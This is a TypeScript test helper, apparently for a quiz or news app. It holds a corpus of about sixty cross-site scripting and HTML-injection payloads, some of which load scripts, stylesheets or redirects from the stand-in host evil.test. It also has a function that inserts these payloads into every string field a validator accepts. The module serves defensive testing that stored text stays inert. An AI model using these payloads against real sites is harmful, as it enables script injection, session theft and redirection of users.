// Texts that have run scripts on other pages: what banks, hosts and storage may hold, and what must stay text.

/** Known ways to get markup or a script into a page, each of which works somewhere. */
export const CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '<img src=x onerror=alert(1)>',
  '<img src="//evil.test/pixel.png">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert`1`//',
  '<svg><script>alert&#40;1&#41;</script>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src="javascript:alert(1)">',
  '<object data="//evil.test/x">',
  '<embed src=//evil.test/x.swf>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import "//evil.test/x.css";*{display:none}</style>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;//evil.test/">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<form action=//evil.test/><button>x</button></form>',
  '<button popovertarget=x onclick=alert(1)>x</button>',
  '<marquee onstart=alert(1)>',
  '<x onclick=alert(1) style="position:fixed;inset:0">',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<news-quiz src="//evil.test/bank.json"></news-quiz>',
  '<slot name=x></slot>',
  '</fieldset></label></div></template></style></script><b>out</b>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title></title><img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '`${alert(1)}`',
  '<?lit$123456789$?>',
  '?lit$0$',
  '<!--?lit$123456789$-->',
  '*/alert(1)/*',
  ';}*{background:url(//evil.test/x)}',
  'expression(alert(1))',
  '\\"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '<p>'.repeat(20),
  '__proto__',
];

/** What else may follow a text where so much has no room: it closes an attribute and opens an element. */
export const SHORT = '"><s>';

type Path = readonly (string | number)[];

/** The places of all texts in a JSON value. */
function* placesOf(value: unknown, path: Path = []): Generator<Path> {
  if (typeof value === 'string') yield path;
  if (typeof value !== 'object' || value === null) return;
  for (const [key, inner] of Object.entries(value)) yield* placesOf(inner, [...path, key]);
}

function put<T>(value: T, path: Path, text: string): T {
  const copy = structuredClone(value);
  let inner = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) inner = inner[key] as Record<string | number, unknown>;
  const last = path.at(-1)!;
  inner[last] = `${inner[last] as string} ${text}`;
  return copy;
}

/** The places of a value's texts that may be as long as that, and of those where only the short one has room. */
export function slotsOf<T>(value: T, text: string, isValid: (changed: T) => boolean): (text: string) => T {
  const slots = [...placesOf(value)].flatMap((path) => {
    if (isValid(put(value, path, text))) return [{ path, isLong: true }];
    return isValid(put(value, path, SHORT)) ? [{ path, isLong: false }] : [];
  });
  return (wanted) =>
    slots.reduce((changed, { isLong, path }) => put(changed, path, isLong ? wanted : SHORT), value);
}
